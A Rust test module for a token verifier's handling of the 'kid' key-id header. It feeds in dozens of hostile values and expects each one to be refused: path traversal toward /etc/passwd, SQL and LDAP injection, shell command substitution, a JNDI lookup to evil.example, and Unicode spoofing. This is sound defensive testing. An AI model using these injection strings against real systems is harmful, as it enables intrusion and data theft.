//! The verifier looks a key id up among the trusted keys, and does nothing else with it.

use gatepass::Refusal::{BadSignature, Malformed, UnknownKey};

use super::{Table, Victim, quoted};

pub(super) fn attacks(table: &mut Table, victim: &Victim) {
    let own = victim.forge.kid.as_str();
    let header = victim.header();
    let texts = [
        ("empty", String::new()),
        ("a blank", " ".into()),
        ("unknown", "another".into()),
        ("a path", "../../../../../dev/null".into()),
        ("a path of Windows", r"..\\..\\..\\windows\\win.ini".into()),
        (
            "an absolute path",
            "/proc/sys/kernel/randomize_va_space".into(),
        ),
        ("a file", "file:///etc/passwd".into()),
        ("SQL", "x' OR '1'='1' --".into()),
        ("a union", "x' UNION SELECT 'AAAA' --".into()),
        ("two statements", "x'; DROP TABLE sessions; --".into()),
        ("LDAP", "*)(uid=*))(|(uid=*".into()),
        ("a command", "| cat /etc/passwd".into()),
        ("a substituted command", "$(cat /etc/passwd)".into()),
        ("a template", "{{7*7}}".into()),
        ("a lookup", "${jndi:ldap://evil.example/a}".into()),
        ("a URL", "https://evil.example/k".into()),
        ("a data URL", "data:application/json,{}".into()),
        ("a pattern", ".*".into()),
        ("a wildcard", "%".into()),
        ("an index", "0".into()),
        ("a prototype", "__proto__".into()),
        ("NUL", r"\u0000".into()),
        ("very long", "k".repeat(3000)),
        ("ours, in lower case", own.to_lowercase()),
        ("ours, in upper case", own.to_uppercase()),
        ("ours behind a space", format!(" {own}")),
        ("ours and a space", format!("{own} ")),
        ("ours and a line feed", format!(r"{own}\n")),
        ("ours and NUL", format!(r"{own}\u0000")),
        ("ours behind a path", format!("./{own}")),
        ("ours behind a byte order mark", format!(r"\ufeff{own}")),
        ("ours and a joiner", format!(r"{own}\u200d")),
        ("ours, but for its end", own[..own.len() - 1].into()),
        ("ours, twice", format!("{own}{own}")),
        ("ours, padded", format!("{own}=")),
        ("ours, in base64url", crate::forge::base64url(own)),
        (
            "ours, escaped twice",
            format!(r"\\u{:04x}{}", own.as_bytes()[0], &own[1..]),
        ),
        (
            "ours, percent-encoded",
            format!("%{:02X}{}", own.as_bytes()[0], &own[1..]),
        ),
        ("ours, in wide letters", wide(own)),
        ("a stranger's", victim.stranger.kid.clone()),
        ("a retired key's", victim.retired.kid.clone()),
    ];
    for (name, text) in texts {
        let token = victim.with_header(&header.with("kid", quoted(text)));
        table.refused(UnknownKey, name, token);
    }
    let values = [
        ("null", "null".to_owned()),
        ("a number", "0".into()),
        ("a negative number", "-1".into()),
        ("a fraction", "1e3".into()),
        ("true", "true".into()),
        ("false", "false".into()),
        ("an array", format!(r#"["{own}"]"#)),
        ("an empty array", "[]".into()),
        ("an object", "{}".into()),
        ("an object of ours", format!(r#"{{"kid":"{own}"}}"#)),
        ("half of a surrogate", r#""\ud800""#.into()),
        ("an escape that is none", r#""\x61""#.into()),
    ];
    for (name, raw) in values {
        let token = victim.with_header(&header.with("kid", raw));
        table.refused(Malformed, name, token);
    }
    let claims = victim.claims().to_string();
    let nameless = victim.with_header(&header.without("kid"));
    table.refused(UnknownKey, "none", nameless);
    let misnamed = victim.with_header(&header.without("kid").and("KID", quoted(own)));
    table.refused(UnknownKey, "ours as KID", misnamed);
    let signed = |by: &crate::forge::Forge, header: String| by.token(header, &claims);
    table.refused(
        UnknownKey,
        "a retired key's, signed by it",
        signed(&victim.retired, victim.retired.header().to_string()),
    );
    table.refused(
        UnknownKey,
        "a stranger's, signed by it",
        signed(&victim.stranger, victim.stranger.header().to_string()),
    );
    table.refused(
        BadSignature,
        "ours, signed by a stranger",
        signed(&victim.stranger, header.to_string()),
    );
    let algorithm = quoted(victim.algorithm());
    table.refused(
        UnknownKey,
        "the neighbour's, with our algorithm",
        signed(
            &victim.forge,
            victim.neighbour.header().with("alg", algorithm).to_string(),
        ),
    );
    let escaped: String = own.bytes().map(|byte| format!(r"\u{byte:04x}")).collect();
    let token = victim.with_header(&header.with("kid", quoted(escaped)));
    table.accepted("ours, escaped", token);
    let token = victim.with_header(&header.without("kid").and(r"\u006bid", quoted(own)));
    table.accepted("ours under an escaped name", token);
}

/// The full-width characters, which Unicode treats as compatible with ASCII.
fn wide(text: &str) -> String {
    let wide = |c: char| char::from_u32(u32::from(c) + 0xFEE0).unwrap();
    text.chars().map(wide).collect()
}
